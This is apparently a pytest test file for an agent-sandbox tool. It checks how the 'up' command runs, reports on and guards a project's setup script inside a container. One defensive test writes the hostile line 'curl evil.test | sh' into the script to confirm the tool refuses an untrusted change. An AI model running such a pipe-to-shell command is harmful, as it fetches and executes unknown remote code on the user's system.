import hashlib
import os
from pathlib import Path

import pytest

from agent_sandbox.cli.framework.errors import exit_code
from agent_sandbox.cli.steps.run_setup import setup_plan
from agent_sandbox.cli.up import up
from agent_sandbox.render.paths import PROJECT_FILE
from agent_sandbox.runtime.init.project_file import digest_of
from agent_sandbox.runtime.project.installed import read_project
from agent_sandbox.stack.containers import ENTER, SETUP
from fake_docker import FakeDocker
from fake_stack import compose_line, trust

SCRIPT = "#!/bin/sh\n"
COMMAND = (
    f"exec -T agent {ENTER} {SETUP} scripts/a.sh --digest {hashlib.sha256(SCRIPT.encode()).hexdigest()} --attended"
)
HINT = "  hint: agent-sandbox up tries again; the stack runs, so you can look around with agent-sandbox shell\n"


@pytest.fixture
def with_setup(project: Path, up_to_date: FakeDocker) -> FakeDocker:
    """Name a setup script in the trusted project."""
    text = "setup: scripts/a.sh\n"
    (project / PROJECT_FILE).write_text(text)
    (project / "scripts").mkdir()
    (project / "scripts" / "a.sh").write_text(SCRIPT)
    stack = project / ".devcontainer" / "docker-compose.yml"
    stack.write_text(stack.read_text().replace("dev: ", f"project_file: {digest_of(text)}, dev: "))
    trust(project)
    return up_to_date.says("ps --all").says("up --detach")


def test_without_a_script_nothing_runs(project: Path) -> None:
    assert setup_plan(read_project(project)) == ()


def test_up_runs_the_script_after_the_start_and_shows_what_it_prints(
    with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]
) -> None:
    said = "agent-sandbox: running scripts/a.sh\nhello\033[2J\n"
    with_setup.says("exec -T agent", out=said)
    assert exit_code(up) == 0
    assert with_setup.calls[-1] == f"{compose_line(Path.cwd())} {COMMAND}"
    assert capsys.readouterr().err.splitlines()[:2] == ["running scripts/a.sh", "  hello\\x1b[2J"]


@pytest.mark.parametrize(
    ("quiet", "shown"),
    [
        (False, "  hello\nerror: scripts/a.sh: failed with exit code 3\n"),
        (True, "error: scripts/a.sh: failed with exit code 3:\n  hello\n"),
    ],
)
def test_up_fails_with_one_error_if_the_script_fails(
    with_setup: FakeDocker, capsys: pytest.CaptureFixture[str], *, quiet: bool, shown: str
) -> None:
    with_setup.says("exec -T agent", out="hello\nagent-sandbox: error: failed with exit code 3\n", code=3)
    assert exit_code(lambda: up(quiet=quiet)) == 1
    assert capsys.readouterr().err == shown + HINT


def test_shows_the_error_of_the_docker_engine(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
    with_setup.says("exec -T agent", err="no such container\n", code=1)
    assert exit_code(lambda: up(quiet=True)) == 1
    assert capsys.readouterr().err == f"error: scripts/a.sh: no such container\n{HINT}"


def test_ctrl_c_during_the_script_interrupts_up(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
    with_setup.says("exec -T agent", script=f"kill -INT {os.getpid()}; exec sleep 5")
    assert exit_code(lambda: up(quiet=True)) == 130
    assert capsys.readouterr().err.startswith("interrupted: run `agent-sandbox up` again")


def test_a_dry_run_shows_the_command(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
    assert exit_code(lambda: up(dry_run=True)) == 0
    assert capsys.readouterr().out.splitlines()[-1].endswith(COMMAND)
    assert with_setup.calls == []


def test_up_refuses_a_changed_script_that_is_not_trusted(
    with_setup: FakeDocker, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "scripts" / "a.sh").write_text("curl evil.test | sh\n")
    assert exit_code(up) == 1
    told = capsys.readouterr().err
    assert "+curl evil.test | sh" in told
    assert "not trusted yet: scripts/a.sh; there is no terminal to ask on" in told
    assert with_setup.calls == []
